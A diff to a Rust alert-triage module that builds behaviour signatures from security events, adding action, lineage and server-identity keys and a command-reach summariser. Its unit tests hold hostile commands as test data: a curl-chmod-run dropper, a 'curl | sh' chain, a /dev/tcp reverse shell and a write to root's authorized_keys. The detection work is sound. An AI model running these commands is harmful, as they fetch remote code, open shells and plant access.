@@ -8,7 +8,7 @@ use std::collections::BTreeMap;
 use quell_events::FlatEvent;
 use serde::Serialize;
 
-use crate::evidence::{role, shape, system_account, Role, DROP_DIRS};
+use crate::evidence::{actor, in_drop_dir, role, shape, system_account, Role, DROP_DIRS};
 use crate::input::{int, text, Alert, Record};
 
 /// Fields that name what an alert acted on, most specific first.
@@ -26,12 +26,28 @@ pub const TARGET_FIELDS: &[&str] = &[
 /// carries them so that it triages into the cluster it stands for.
 pub const SIGNATURE_FIELDS: &[&str] = &[
     "container.image.repository",
+    "container.image",
+    "proc.pexepath",
+    "proc.aexepath[2]",
+    "proc.aexepath[3]",
+    "proc.aexepath[4]",
+    "proc.stdin_type",
+    "proc.stdout_type",
+    "proc.stderr_type",
+    "proc.is_exe_from_memfd",
+    "proc.is_exe_upper_layer",
     "container.id",
     "k8s.ns.name",
     "proc.exepath",
     "proc.name",
     "proc.pname",
     "proc.cmdline",
+    "proc.pcmdline",
+    "evt.type",
+    "evt.arg.flags",
+    "evt.is_open_write",
+    "fd.sip.name",
+    "fd.rip.name",
     "proc.tty",
     "user.name",
     "user.uid",
@@ -59,10 +75,7 @@ pub struct Signature {
 impl Signature {
     /// The signature of an alert of `rule` on `ev`.
     pub fn of(rule: &str, ev: &FlatEvent) -> Signature {
-        let workload = text(ev, "container.image.repository")
-            .or_else(|| text(ev, "container.id").filter(|c| c == "host"))
-            .unwrap_or_else(|| "host".into());
-        let mut workload = mask(&workload);
+        let mut workload = mask(&workload(ev));
         // Another namespace is another context (a near-attack's `kubectl exec` into
         // another team's pod): the namespace goes in when known.
         if let Some(ns) = text(ev, "k8s.ns.name").filter(|n| !n.is_empty()) {
@@ -86,6 +99,14 @@ impl Signature {
         if let Some(p) = text(ev, "proc.pname").or_else(|| text(ev, "proc.aname[1]")) {
             lineage.push(format!("parent={}", mask(&p)));
         }
+        // Who started the parent's shell or program: the first ancestor above the parent
+        // that is not a shell (a notebook kernel's `sh -c pip …` is not a web server's).
+        if let Some((_, above, _)) = crate::evidence::lineage(ev)
+            .into_iter()
+            .find(|(level, name, _)| *level >= 2 && role(name) != Role::Shell)
+        {
+            lineage.push(format!("above={}", mask(&above)));
+        }
         // Who it runs as, by kind: root, a service account by name (a role), or a person
         // (whose name is incidental); and whether it has a terminal (a runtime's piped exec
         // is not an interactive shell).
@@ -102,12 +123,39 @@ impl Signature {
             Some(l) if (1..4_294_967_295).contains(&l) => lineage.push("login=person".into()),
             _ => {}
         }
+        // How the session was entered and what the lineage holds that the verdict reads:
+        // two alerts that differ here are two behaviours, whatever else they share.
+        lineage.push(actor_class(ev));
+        // The action: reading a key file is not writing it, emptying a log is not
+        // removing it.
+        if let Some(act) = action(ev) {
+            lineage.push(format!("act={act}"));
+        }
+        // The parent's command line by kind: the same program run by `bash` at a terminal
+        // and by `sh -c 'curl … | sh; …'` is not one behaviour.
+        if let Some(pc) = text(ev, "proc.pcmdline") {
+            lineage.push(format!("pcmd={}", command_reach(&pc)));
+        }
+        let command = text(ev, "proc.cmdline");
         let target = match target(ev) {
-            Some((_, t)) if t.contains("->") => mask_connection(&t),
-            Some((_, t)) => mask_path(&t),
-            None => text(ev, "proc.cmdline")
-                .map(|c| mask_command(&c))
-                .unwrap_or_default(),
+            Some((_, t)) => {
+                // With a target, what the command that acted on it reaches goes in too:
+                // the same file removed by `rm` and by `sh -c 'rm …; curl …'`, or by a tool
+                // given a hidden temporary path, are two behaviours.
+                if let Some(c) = &command {
+                    lineage.push(format!("cmd={}", command_reach(c)));
+                }
+                if t.contains("->") {
+                    let mut c = mask_connection(&t);
+                    if let Some(server) = server_identity(ev, &t) {
+                        c = format!("{c} {server}");
+                    }
+                    c
+                } else {
+                    mask_path(&t)
+                }
+            }
+            None => command.map(|c| mask_command(&c)).unwrap_or_default(),
         };
         Signature {
             rule: rule.to_string(),
@@ -143,6 +191,106 @@ impl Signature {
             feed(part);
         }
         format!("{:012x}", h >> 16)
+    }
+}
+
+/// The facts of an alert's own lineage that triage's verdict reads, as one key: the
+/// session's entry (`entry=login` for a login or terminal entry, `entry=runtime` for a
+/// container runtime's `exec`, `entry=none`), then those present of a service in the
+/// lineage (`service`), a service's shell (`service-shell`), a scheduler (`scheduler`), a
+/// dropped executable (`dropped`), a network socket as a standard stream (`net-stdio`).
+/// An operator's `kubectl exec` and a web server's shell doing the same thing differ here
+/// even where the shape's few roles do not show it.
+pub fn actor_class(ev: &FlatEvent) -> String {
+    let a = actor(ev);
+    let entry = if a.entry.is_some() {
+        "login"
+    } else if a.runtime.is_some() {
+        "runtime"
+    } else {
+        "none"
+    };
+    let mut out = format!("entry={entry}");
+    for (present, word) in [
+        (a.service.is_some(), "service"),
+        (a.service_shell.is_some(), "service-shell"),
+        (a.scheduler.is_some(), "scheduler"),
+        (a.dropped_exe.is_some(), "dropped"),
+        (a.network_stdio.is_some(), "net-stdio"),
+    ] {
+        if present {
+            out.push(' ');
+            out.push_str(word);
+        }
+    }
+    out
+}
+
+/// The action of an event by kind: the system call without its variant suffix
+/// (`openat2` → `open`, `unlinkat` → `unlink`, `renameat2` → `rename`, `dup3` → `dup`),
+/// and for an open its mode: `open-trunc`, `open-write` (write access or create) or
+/// `open-read`. `None` when the event does not say.
+pub fn action(ev: &FlatEvent) -> Option<String> {
+    let ty = text(ev, "evt.type")?;
+    let base = ty.trim_end_matches(|c: char| c.is_ascii_digit());
+    let base = match base {
+        "creat" => "open",
+        "fchmodat" | "fchmod" => "chmod",
+        "fchownat" | "fchown" | "lchown" => "chown",
+        "openat" => "open",
+        "unlinkat" => "unlink",
+        "renameat" => "rename",
+        "mkdirat" => "mkdir",
+        "linkat" => "link",
+        "symlinkat" => "symlink",
+        "execveat" => "execve",
+        b => b,
+    };
+    if base != "open" {
+        return Some(mask(base));
+    }
+    let flags = text(ev, "evt.arg.flags").unwrap_or_default();
+    let yes = |k: &str| {
+        matches!(ev.get(k), Some(quell_rules::Value::Bool(true)))
+            || text(ev, k).is_some_and(|v| v == "true")
+    };
+    let mode = if flags.contains("O_TRUNC") || ty == "creat" && flags.is_empty() {
+        "trunc"
+    } else if flags.contains("O_WRONLY")
+        || flags.contains("O_RDWR")
+        || flags.contains("O_CREAT")
+        || yes("evt.is_open_write")
+    {
+        "write"
+    } else {
+        "read"
+    };
+    Some(format!("open-{mode}"))
+}
+
+/// The workload of an event: the image's repository (`container.image.repository`, or
+/// `container.image` without its tag or digest), `host` on the host, and `container` for
+/// a container whose image is unknown (never the host's).
+pub fn workload(ev: &FlatEvent) -> String {
+    if let Some(repo) = text(ev, "container.image.repository").filter(|r| !r.is_empty()) {
+        return repo;
+    }
+    if let Some(image) = text(ev, "container.image").filter(|r| !r.is_empty()) {
+        return image_repository(&image).to_string();
+    }
+    match text(ev, "container.id") {
+        Some(c) if !c.is_empty() && c != "host" => "container".into(),
+        _ => "host".into(),
+    }
+}
+
+/// An image reference without its digest (`@sha256:...`) and tag (`:1.2`; a registry's
+/// `:port` stays): `registry:5000/team/app:1.2@sha256:ab` → `registry:5000/team/app`.
+pub fn image_repository(image: &str) -> &str {
+    let image = image.split_once('@').map_or(image, |(r, _)| r);
+    match image.rsplit_once(':') {
+        Some((repo, tag)) if !tag.contains('/') => repo,
+        _ => image,
     }
 }
 
@@ -254,6 +402,109 @@ fn mask_command_at(cmdline: &str, depth: usize) -> String {
         pos += 1;
     }
     out.join(" ")
+}
+
+/// What a command line runs and reaches, with its options and plain values left out: the
+/// programs of its commands in order (a shell's `-c` script command by command), and for
+/// its arguments only what points outside the behaviour's own files: an address or URL by
+/// class (`public`, `private`, `loopback`, or the host name masked), a `/dev/tcp` or
+/// `/dev/udp` redirection (`net-redirect`), a path in a temporary or shared-memory
+/// directory (`drop`), a command substitution (`subst`). Runs of one tool with other
+/// options or other files of its own (`--tags web`, `--profile monthly.prf`, `-U`) read
+/// the same; a download, a chained command, a hidden temporary path do not
+/// (`sh -c 'curl -o /tmp/.u http://203.0.113.7/p && /tmp/.u'` →
+/// `sh -c curl drop http://public chmod drop:.u`). Each item appears once.
+pub fn command_reach(cmdline: &str) -> String {
+    let mut all = Vec::new();
+    reach_at(cmdline, 0, &mut all);
+    // What it runs and reaches, each once, in order of first appearance: a script that
+    // runs `grep` twice and one that runs it once do the same kind of thing.
+    let mut out: Vec<String> = Vec::new();
+    for w in all {
+        if !out.contains(&w) {
+            out.push(w);
+        }
+    }
+    out.join(" ")
+}
+
+fn reach_at(cmdline: &str, depth: usize, out: &mut Vec<String>) {
+    if depth > MAX_SCRIPT_DEPTH {
+        out.push("deep".into());
+        return;
+    }
+    let toks = shell_tokens(cmdline);
+    let mut pos = 0usize;
+    let mut shell = false;
+    let mut i = 0;
+    while i < toks.len() {
+        let t = &toks[i];
+        i += 1;
+        if is_operator(t) {
+            pos = 0;
+            continue;
+        }
+        if t.contains("$(") || t.contains('`') {
+            out.push("subst".into());
+        }
+        let word = if is_quoted(t) {
+            &t[1..t.len() - 1]
+        } else {
+            t.as_str()
+        };
+        if pos == 0 {
+            let name = word.rsplit('/').next().unwrap_or(word);
+            shell = role(name) == Role::Shell;
+            out.push(if in_drop_dir(word) {
+                format!("drop:{}", mask(name))
+            } else {
+                mask(name)
+            });
+            pos = 1;
+            continue;
+        }
+        pos += 1;
+        if shell && word == "-c" {
+            out.push("-c".into());
+            let rest: Vec<String> = toks[i..].to_vec();
+            let script = match rest.as_slice() {
+                [one] if is_quoted(one) => one[1..one.len() - 1].to_string(),
+                _ => rest.join(" "),
+            };
+            reach_at(&script, depth + 1, out);
+            return;
+        }
+        // An option's value: `--url=http://…`, `-o/tmp/x`.
+        let value = word.split_once('=').map_or(word, |(_, v)| v);
+        if let Some(r) = reach_of(value) {
+            out.push(r);
+        }
+    }
+}
+
+/// What one argument reaches, if it points outside the behaviour's own files (see
+/// [`command_reach`]).
+fn reach_of(w: &str) -> Option<String> {
+    let path =
+        w.trim_start_matches(|c: char| c.is_ascii_digit() || c == '<' || c == '>' || c == '&');
+    if path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/") {
+        return Some("net-redirect".into());
+    }
+    if in_drop_dir(path) {
+        return Some("drop".into());
+    }
+    if let Some((scheme, rest)) = w.split_once("://") {
+        let host = rest.split('/').next().unwrap_or(rest);
+        let host = host.rsplit_once('@').map_or(host, |(_, h)| h);
+        let host = host.rsplit_once(':').map_or(host, |(h, _)| h);
+        return Some(format!("{}://{}", mask(scheme), host_class(host)));
+    }
+    if let Some((_, rest)) = w.split_once('@') {
+        let host = rest.split_once(':').map_or(rest, |(h, _)| h);
+        return Some(format!("@{}", host_class(host)));
+    }
+    let host = w.rsplit_once(':').map_or(w, |(h, _)| h);
+    ip_class(host).map(str::to_string)
 }
 
 /// One argument of a command, by kind (see [`mask_command`]).
@@ -505,6 +756,37 @@ fn mask_basename(base: &str) -> String {
         base.to_string()
     } else {
         out
+    }
+}
+
+/// Which server a connection reaches, beyond its address class: the server's name when
+/// the event has one (its last two labels, masked: `ssh.github.com` → `github.com`), else
+/// for a public address its network (`203.0.113.0/24`, an IPv6 `/48`): a backup server
+/// and an attacker's host on the same port are two behaviours. `None` for a private or
+/// loopback address without a name (the site's own servers: their class and port say it).
+pub fn server_identity(ev: &FlatEvent, conn: &str) -> Option<String> {
+    let name = ["fd.sip.name", "fd.rip.name"]
+        .iter()
+        .find_map(|k| text(ev, k))
+        .filter(|n| n.contains('.') && n.parse::<std::net::IpAddr>().is_err());
+    if let Some(n) = name {
+        let labels: Vec<&str> = n.trim_end_matches('.').rsplit('.').take(2).collect();
+        let short: Vec<&str> = labels.into_iter().rev().collect();
+        return Some(mask(&short.join(".")).to_ascii_lowercase());
+    }
+    let remote = conn.split_once("->").map_or(conn, |(_, r)| r);
+    let host = remote.rsplit_once(':').map_or(remote, |(h, _)| h);
+    let host = host.trim_matches(|c| c == '[' || c == ']');
+    match host.parse::<std::net::IpAddr>().ok()? {
+        ip if ip_class(&ip.to_string()) != Some("public") => None,
+        std::net::IpAddr::V4(v) => {
+            let o = v.octets();
+            Some(format!("{}.{}.{}.0/24", o[0], o[1], o[2]))
+        }
+        std::net::IpAddr::V6(v) => {
+            let g = v.segments();
+            Some(format!("{:x}:{:x}:{:x}::/48", g[0], g[1], g[2]))
+        }
     }
 }
 
@@ -793,6 +1075,164 @@ mod tests {
         assert_eq!(mask_path("/"), "/");
         assert_eq!(mask_path("/home/"), "/home/");
         assert_eq!(mask_path("a.N.gz"), "a.N");
+    }
+
+    /// What a command runs and reaches: options and plain values are left out, programs,
+    /// addresses by class, temporary paths, substitutions and `/dev/tcp` stay.
+    #[test]
+    fn command_reach_keeps_programs_and_places_only() {
+        let r = command_reach;
+        // Other options, other files of the tool's own: the same.
+        assert_eq!(
+            r("lynis audit system --cronjob"),
+            r("lynis audit system --cronjob --profile /etc/lynis/monthly.prf")
+        );
+        assert_eq!(r("pip install -U polars"), r("pip install numpy"));
+        assert_eq!(
+            r("sh -c 'grep -q x a && grep -q y b'"),
+            r("sh -c 'grep -q x a'")
+        );
+        // A download, a chained command, a temporary path, a substitution: not the same.
+        assert_eq!(
+            r("sh -c curl -s -o /tmp/.u http://203.0.113.7/p && chmod +x /tmp/.u && /tmp/.u; rm x"),
+            "sh -c curl drop http://public chmod drop:.u rm"
+        );
+        assert_ne!(
+            r("sh -c rm x"),
+            r("sh -c rm x; curl -s http://203.0.113.7/x | sh")
+        );
+        assert_ne!(
+            r("tar czf /var/backups/e.tgz /etc"),
+            r("tar czf /dev/shm/.x /etc")
+        );
+        assert_ne!(r("convert a b"), r("convert a \"$(id)\""));
+        assert_eq!(
+            r("bash -i >/dev/tcp/203.0.113.9/4444 0>&1"),
+            "bash net-redirect"
+        );
+        assert_ne!(
+            r("rsync -a /d/ b@10.0.0.5:/srv/"),
+            r("rsync -a /d/ b@203.0.113.5:/srv/")
+        );
+        assert_eq!(
+            r("curl --url=http://127.0.0.1:8080/x"),
+            "curl http://loopback"
+        );
+        // Scripts within scripts, however deep; hostile input never panics.
+        let deep = "sh -c ".repeat(100_000) + "id";
+        assert!(r(&deep).ends_with("deep"));
+        for s in ["", "'", "$(", "a@", "://", "| ; &&", "\u{1b}[31m"] {
+            let _ = r(s);
+        }
+    }
+
+    /// The action, the entry and lineage facts, the workload's repository and the server
+    /// are part of the behaviour.
+    #[test]
+    fn signature_keeps_action_entry_workload_and_server() {
+        let base = r#""proc.exepath":"/usr/bin/rm","proc.name":"rm","proc.cmdline":"rm x","proc.pname":"bash","user.uid":0"#;
+        let s = |extra: &str| {
+            sig(&format!(
+                r#"{{"rule":"R","output_fields":{{{base}{extra}}}}}"#
+            ))
+        };
+        // Reading is not writing; `openat2` is `open`, `unlinkat` is `unlink`.
+        assert_eq!(
+            action(&ev(r#"{"evt.type":"openat2","evt.arg.flags":"O_RDONLY"}"#)).unwrap(),
+            "open-read"
+        );
+        assert_eq!(
+            action(&ev(
+                r#"{"evt.type":"openat","evt.arg.flags":"O_WRONLY|O_CREAT"}"#
+            ))
+            .unwrap(),
+            "open-write"
+        );
+        assert_eq!(
+            action(&ev(
+                r#"{"evt.type":"open","evt.arg.flags":"O_WRONLY|O_TRUNC"}"#
+            ))
+            .unwrap(),
+            "open-trunc"
+        );
+        assert_eq!(action(&ev(r#"{"evt.type":"unlinkat"}"#)).unwrap(), "unlink");
+        assert_eq!(
+            action(&ev(r#"{"evt.type":"renameat2"}"#)).unwrap(),
+            "rename"
+        );
+        assert_ne!(
+            s(
+                r#","evt.type":"openat","evt.arg.flags":"O_RDONLY","fd.name":"/root/.ssh/authorized_keys""#
+            ),
+            s(
+                r#","evt.type":"openat","evt.arg.flags":"O_WRONLY|O_APPEND","fd.name":"/root/.ssh/authorized_keys""#
+            )
+        );
+        // How the session was entered, and what is in the lineage.
+        let login = s(r#","proc.aname[2]":"sshd","proc.tty":34816"#);
+        assert!(
+            login.lineage.iter().any(|l| l == "entry=login"),
+            "{login:?}"
+        );
+        let exec = s(r#","proc.aname[2]":"runc","proc.tty":34816"#);
+        assert!(
+            exec.lineage.iter().any(|l| l == "entry=runtime"),
+            "{exec:?}"
+        );
+        let web = s(r#","proc.aname[2]":"nginx""#);
+        assert!(
+            web.lineage
+                .iter()
+                .any(|l| l == "entry=none service service-shell"),
+            "{web:?}"
+        );
+        // The first ancestor above the parent that is not a shell.
+        assert_ne!(
+            s(r#","proc.aname[2]":"sh","proc.aname[3]":"node""#),
+            s(r#","proc.aname[2]":"sh","proc.aname[3]":"python3""#)
+        );
+        // The parent's command: a download before is another behaviour.
+        assert_ne!(
+            s(r#","proc.pcmdline":"bash""#),
+            s(r#","proc.pcmdline":"sh -c curl -so /tmp/.u http://203.0.113.7/p; /tmp/.u; rm x""#)
+        );
+        // The image's repository, not its tag; an unknown container is not the host.
+        assert_eq!(
+            image_repository("registry:5000/team/app:1.2@sha256:ab"),
+            "registry:5000/team/app"
+        );
+        assert_eq!(
+            image_repository("registry:5000/team/app"),
+            "registry:5000/team/app"
+        );
+        assert_eq!(image_repository("nginx"), "nginx");
+        assert_eq!(
+            s(r#","container.id":"c1","container.image":"nginx:1.25""#),
+            s(r#","container.id":"c2","container.image":"nginx:1.27""#)
+        );
+        assert_eq!(s(r#","container.id":"c1""#).workload, "container");
+        assert_eq!(s(r#","container.id":"host""#).workload, "host");
+        // The server: by name when known (its last two labels), else a public network.
+        let conn = |extra: &str| {
+            s(&format!(
+                r#","evt.type":"connect","fd.name":"10.0.0.2:51234->{extra}"#
+            ))
+        };
+        assert_eq!(conn(r#"203.0.113.7:443""#), conn(r#"203.0.113.9:443""#));
+        assert_ne!(conn(r#"203.0.113.7:443""#), conn(r#"198.51.100.7:443""#));
+        assert_eq!(conn(r#"10.0.0.5:5432""#), conn(r#"10.0.9.6:5432""#));
+        assert_eq!(
+            conn(r#"140.82.112.3:443","fd.sip.name":"ssh.github.com""#).target,
+            "->public:443 github.com"
+        );
+        assert_ne!(
+            conn(r#"140.82.112.3:443","fd.sip.name":"ssh.github.com""#),
+            conn(r#"140.82.112.3:443","fd.sip.name":"c2.example.net""#)
+        );
+    }
+
+    fn ev(json: &str) -> FlatEvent {
+        parse_records(json, "t").unwrap().remove(0).event
     }
 
     /// One behaviour is one cluster across runs; the actor's kind, the namespace and the
